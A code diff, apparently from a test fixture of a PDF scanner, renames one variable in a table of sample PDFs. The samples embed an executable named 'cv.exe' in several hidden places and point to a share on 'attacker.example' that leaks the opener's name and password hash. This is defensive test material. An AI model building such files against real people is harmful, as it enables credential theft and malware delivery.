@@ -29,7 +29,7 @@ const embedded = stream(
 const file = '<< /Type /Filespec /F (cv.exe) /UF (cv.exe) /EF << /F 9 0 R >> /AFRelationship /Data >>';
 const attached = { 8: file, 9: embedded };
 const share = '(\\\\\\\\attacker.example\\\\share\\\\cv.pdf)';
-const saved = 'Acrobat offers the program to the person who opens the file.';
+const reason = 'Acrobat offers the program to the person who opens the file.';
 const asks =
   'Windows answers the share of a stranger with the name and the hashed password of the person who opens the file.';
 
@@ -121,7 +121,7 @@ export const pdfReachingOut: readonly Row[] = [
   [
     'attachment',
     pdf({ catalogue: '/Names << /EmbeddedFiles << /Names [(cv.exe) 8 0 R] >> >>', objects: attached }),
-    saved,
+    reason,
   ],
   [
     'attachment deep in the tree of names',
@@ -134,15 +134,15 @@ export const pdfReachingOut: readonly Row[] = [
         12: '<< /Limits [(a) (a)] /Names [(a) 8 0 R] >>',
       },
     }),
-    saved,
+    reason,
   ],
   [
     'attachment behind a paper clip',
     annotated('/Subtype /FileAttachment /FS 8 0 R /Contents (CV)', attached),
-    saved,
+    reason,
   ],
-  ['associated file of the catalogue', pdf({ catalogue: '/AF [8 0 R]', objects: attached }), saved],
-  ['associated file of a page', pdf({ page: '/AF [8 0 R]', objects: attached }), saved],
+  ['associated file of the catalogue', pdf({ catalogue: '/AF [8 0 R]', objects: attached }), reason],
+  ['associated file of a page', pdf({ page: '/AF [8 0 R]', objects: attached }), reason],
   [
     'portfolio',
     pdf({
